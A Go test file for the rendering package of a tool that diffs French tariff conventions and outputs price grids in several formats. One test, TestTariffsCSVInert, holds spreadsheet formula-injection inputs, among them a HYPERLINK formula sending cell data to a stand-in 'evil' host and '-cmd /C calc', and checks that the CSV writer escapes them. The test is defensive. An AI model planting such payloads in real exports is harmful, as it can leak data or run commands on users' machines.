package render

import (
	"bytes"
	"path/filepath"
	"strings"
	"testing"

	"github.com/avenant-dev/avenant/clause"
	"github.com/avenant-dev/avenant/fixtures"
	"github.com/avenant-dev/avenant/internal/goldenfile"
	"github.com/avenant-dev/avenant/tariff"
)

// fixtureGrid is the grid of the six demo versions, oldest first.
func fixtureGrid(t *testing.T) *tariff.Grid {
	t.Helper()
	vs, err := fixtures.Versions()
	if err != nil {
		t.Fatal(err)
	}
	var versions []tariff.Version
	for _, v := range vs {
		b, err := fixtures.FS.ReadFile(v.File)
		if err != nil {
			t.Fatal(err)
		}
		versions = append(versions, tariff.Version{Label: v.Label, Party: v.Party, Date: v.Date, Doc: clause.Parse(string(b))})
	}
	return tariff.Build(versions)
}

// TestTariffsGolden: the grid of the six demo versions in every format.
func TestTariffsGolden(t *testing.T) {
	g := fixtureGrid(t)
	for _, format := range TariffsFormats {
		t.Run(format, func(t *testing.T) {
			var b bytes.Buffer
			if err := WriteTariffs(&b, g, format, Styles{}); err != nil {
				t.Fatal(err)
			}
			ext := map[string]string{"text": "txt", "json": "json", "csv": "csv", "markdown": "md"}[format]
			goldenfile.Check(t, filepath.Join("testdata", "tariffs", "fixtures."+ext), b.Bytes())
		})
	}
}

// TestTariffsColor: with colour, a changed cell is styled instead of
// marked, and the legend goes.
func TestTariffsColor(t *testing.T) {
	var b bytes.Buffer
	if err := tariffsText(&b, fixtureGrid(t), ColorStyles()); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.Contains(out, " *") || strings.Contains(out, "differs from") {
		t.Errorf("colour output still marks changes with *:\n%s", out)
	}
	if !strings.Contains(out, ColorStyles().Kind.Styled("46 €")) {
		t.Errorf("the new CCP price is not highlighted:\n%q", out)
	}
}

// TestPresenceFactsShown: every diff output shows the amounts of the
// tariff rows and priced articles that appear or disappear (the 2025
// avenant drops MPC, adds CCP and article 17 bis).
func TestPresenceFactsShown(t *testing.T) {
	read := func(name string) *clause.Document {
		b, err := fixtures.FS.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		return clause.Parse(string(b))
	}
	d := clause.Compare(read("05-convention-2024-06.md"), read("06-avenant-1-2025.md"), clause.CompareOptions{})
	old, new := Side{Ref: "CONV-2024-06"}, Side{Ref: "AV1-2025"}
	outputs := map[string]func(*bytes.Buffer) error{
		"text":     func(b *bytes.Buffer) error { return DiffText(b, d, old, new, false, Styles{}) },
		"overview": func(b *bytes.Buffer) error { return DiffOverview(b, d, Styles{}) },
		"markdown": func(b *bytes.Buffer) error { return DiffMarkdown(b, d, old, new, false) },
		"html":     func(b *bytes.Buffer) error { return DiffHTML(b, d, old, new, false) },
	}
	for name, write := range outputs {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		wants := []string{"amount MPC: 2 € → –", "amount CCP: – → 46 €", "amount: – → 200 €"}
		if name == "html" { // the redline is French
			wants = []string{"montant MPC : 2 € → –", "montant CCP : – → 46 €", "montant : – → 200 €"}
		}
		for _, want := range wants {
			if !strings.Contains(b.String(), want) {
				t.Errorf("%s output lacks %q", name, want)
			}
		}
	}
}

// TestTariffsCSVEveryPrice: a code priced per zone has a line per price,
// so that a spreadsheet sees the DOM's price change too.
func TestTariffsCSVEveryPrice(t *testing.T) {
	const table = "## Annexe 1\n\n| Code | Libellé | Métropole | DOM |\n|---|---|---|---|\n| G | Consultation | 30 € | %s |\n"
	g := tariff.Build([]tariff.Version{
		{Label: "v1", Doc: clause.Parse(strings.Replace(table, "%s", "32 €", 1))},
		{Label: "v2", Doc: clause.Parse(strings.Replace(table, "%s", "33 €", 1))},
	})
	var b bytes.Buffer
	if err := tariffsCSV(&b, g); err != nil {
		t.Fatal(err)
	}
	if want := "code,label,v1,v2\nG,Consultation,30,30\nG,Consultation,32,33\n"; b.String() != want {
		t.Errorf("csv:\n%s\nwant:\n%s", b.String(), want)
	}
}

// TestTariffsCSVInert: a label a spreadsheet would run as a formula is
// written as text; the prices stay numbers, a negative one included.
func TestTariffsCSVInert(t *testing.T) {
	const table = "## Annexe 1\n\n| Code | Libellé | Tarif |\n|---|---|---|\n" +
		"| G | =HYPERLINK(\"http://evil/?\"&A1,\"clic\") | 30 € |\n" +
		"| GS | @SUM(1+1)*cmd | %s |\n" +
		"| APC | -cmd /C calc | 56,50 € |\n" +
		"| CS | Consultation | 30 € |\n"
	g := tariff.Build([]tariff.Version{
		{Label: "=v1", Doc: clause.Parse(strings.Replace(table, "%s", "30 €", 1))},
		{Label: "v2", Doc: clause.Parse(strings.Replace(table, "%s", "- 5 €", 1))},
	})
	var b bytes.Buffer
	if err := tariffsCSV(&b, g); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"code,label,'=v1,v2\n",
		`G,"'=HYPERLINK(""http://evil/?""&A1,""clic"")",30,30` + "\n",
		"GS,'@SUM(1+1)*cmd,30,-5\n",
		"APC,'-cmd /C calc,56.5,56.5\n",
		"CS,Consultation,30,30\n",
	} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("csv lacks %q:\n%s", want, b.String())
		}
	}
}
